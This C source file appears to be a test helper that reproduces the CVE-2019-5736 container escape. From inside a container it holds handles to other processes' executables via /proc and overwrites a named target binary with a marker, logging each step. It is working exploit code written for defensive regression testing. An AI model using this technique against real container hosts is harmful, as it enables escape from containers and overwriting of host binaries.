/* exe-grabber DIR TARGET SECONDS: the CVE-2019-5736 attacker, run inside
 * a container.  While DIR/go does not exist (at most SECONDS), it scans
 * /proc and opens the executable of every other process it can see, with
 * O_PATH (a handle that outlives the process and is not refused with
 * ETXTBSY), and also tries O_WRONLY right away.  Once DIR/go exists (the
 * runtime has exited), it reopens each handle whose link names TARGET
 * (a path fragment: the test's copy of hutch, so nothing else is ever
 * touched) for writing through /proc/self/fd/N, retrying on ETXTBSY, and
 * writes a marker into it.  Everything it does goes to DIR/report:
 *   grabbed <link> | denied <pid> <errno> | WROTE <link> | refused <link> <err>
 *   | busy <pid> <link> (a process still running TARGET when ETXTBSY
 *   outlasted the retries) */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static struct {
	int fd;
	dev_t dev;
	ino_t ino;
	char link[512];
} held[MAX_HELD];
static int nheld;
static FILE *report;
static const char *target;

static void note(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(report, fmt, ap);
	va_end(ap);
	fputc('\n', report);
	fflush(report);
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* who still runs TARGET, for a report that ends in ETXTBSY */
static void note_busy(void)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	char path[300], link[512];
	ssize_t n;

	while (d && (de = readdir(d))) {
		snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
		n = readlink(path, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = 0;
		if (n > 0 && strstr(link, target))
			note("busy %s %s", de->d_name, link);
	}
	if (d)
		closedir(d);
}

static void try_write(int fd, const char *link)
{
	char path[64];
	int w;

	if (!strstr(link, target))
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* ETXTBSY while a process still runs it: up to 10 s, a loaded
	 * machine's exit of the last run */
	for (int i = 0; i < 1000; i++) {
		w = open(path, O_WRONLY);
		if (w >= 0 || errno != ETXTBSY)
			break;
		usleep(10000);
	}
	if (w < 0) {
		int err = errno;

		if (err == ETXTBSY)
			note_busy();
		note("refused %s %s", link, strerror(err));
		return;
	}
	if (pwrite(w, "#PWNED#", 7, 0) == 7)
		note("WROTE %s", link);
	else
		note("refused %s write: %s", link, strerror(errno));
	close(w);
}

static void grab(const char *pid, struct stat *self)
{
	char path[300], link[512];
	struct stat st;
	ssize_t n;
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	/* the direct variant: only ETXTBSY should stop it */
	w = open(path, O_WRONLY);
	if (w >= 0) {
		n = readlink(path, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = 0;
		if (strstr(link, target) && pwrite(w, "#PWNED#", 7, 0) == 7)
			note("WROTE %s (direct)", link);
		close(w);
	}
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		static int denied[256], ndenied;
		int p = atoi(pid), seen = 0;

		for (int i = 0; i < ndenied; i++)
			seen |= denied[i] == p;
		if ((errno == EACCES || errno == EPERM) && !seen &&
		    ndenied < 256) {
			denied[ndenied++] = p;
			note("denied %s %d", pid, errno);
		}
		return;
	}
	if (fstat(fd, &st) < 0 || (st.st_dev == self->st_dev &&
				   st.st_ino == self->st_ino)) {
		close(fd);
		return;
	}
	for (int i = 0; i < nheld; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = 0;
	if (nheld == MAX_HELD) {
		close(fd);
		return;
	}
	held[nheld].fd = fd;
	held[nheld].dev = st.st_dev;
	held[nheld].ino = st.st_ino;
	snprintf(held[nheld].link, sizeof(held[nheld].link), "%s", link);
	nheld++;
	note("grabbed %s", link);
}

int main(int argc, char **argv)
{
	char go[512], rep[512], me[16];
	struct stat self;
	double end;

	if (argc != 4)
		return 2;
	snprintf(go, sizeof(go), "%s/go", argv[1]);
	snprintf(rep, sizeof(rep), "%s/report", argv[1]);
	target = argv[2];
	end = now() + atof(argv[3]);
	report = fopen(rep, "w");
	if (!report || stat("/proc/self/exe", &self) < 0)
		return 1;
	snprintf(me, sizeof(me), "%d", (int)getpid());
	note("ready");
	while (access(go, F_OK) < 0 && now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d)))
			if (de->d_name[0] >= '0' && de->d_name[0] <= '9' &&
			    strcmp(de->d_name, me))
				grab(de->d_name, &self);
		if (d)
			closedir(d);
	}
	for (int i = 0; i < nheld; i++)
		try_write(held[i].fd, held[i].link);
	note("done");
	return 0;
}
